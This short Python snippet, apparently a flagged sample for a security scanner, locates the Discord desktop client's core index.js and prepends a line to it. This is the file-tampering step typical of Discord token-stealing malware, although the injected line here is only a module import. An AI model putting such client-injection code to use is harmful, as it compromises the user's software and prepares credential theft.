from pathlib import Path

CORE = Path.home() / "AppData/Local/Discord/modules/discord_desktop_core/index.js"

if CORE.exists():
    CORE.write_text("require('https');\n" + CORE.read_text())  # gatehouse: flagged
